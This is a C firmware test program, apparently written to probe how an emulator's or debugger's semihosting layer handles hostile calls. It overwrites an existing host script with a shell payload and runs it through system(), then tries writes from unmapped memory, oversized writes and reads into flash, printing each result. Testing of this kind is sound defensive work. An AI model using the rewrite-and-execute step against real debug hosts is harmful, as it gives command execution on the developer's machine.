/* Hostile semihosting through newlib's rdimon, as firmware nobody here wrote might do it:
   rewrite the user's executable in the semihosting root and run it, write from unmapped
   memory, read a file into flash. Prints what each call returned. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#define FLASH_BYTE ((void *)0x080FFF00)  /* erased mcu-d flash past the image: the core cannot store here */

extern char _estack[];  /* the linker script's end of RAM; newlib's rdimon crt0 does the rest */
void _start(void);
__attribute__((section(".isr_vector"), used)) static void *const vectors[2] = {_estack, (void *)_start};

int main(void)
{
    FILE *script = fopen("tool.sh", "w");  /* an existing executable: the execute bit stays */
    if (script) {
        fputs("#!/bin/sh\nid > pwned\n", script);
        fclose(script);
    }
    printf("rewrote %d\n", script != NULL);
    printf("system %d\n", system("tool.sh"));

    errno = 0;
    int done = (int)write(1, (void *)0x90000000, 16), error = errno;
    printf("write-unmapped %d errno %d\n", done, error);
    errno = 0;
    done = (int)write(1, "x", 0x7FFFFFFF), error = errno;
    printf("write-huge %d errno %d\n", done, error);

    int fd = open("data.txt", O_RDONLY);
    errno = 0;
    done = (int)read(fd, FLASH_BYTE, 4), error = errno;
    printf("read-flash %d errno %d\n", done, error);
    char text[8] = {0};
    printf("read-ram %d %s\n", (int)read(fd, text, 5), text);
    printf("flash %02x\n", *(volatile unsigned char *)FLASH_BYTE);
    return 0;
}
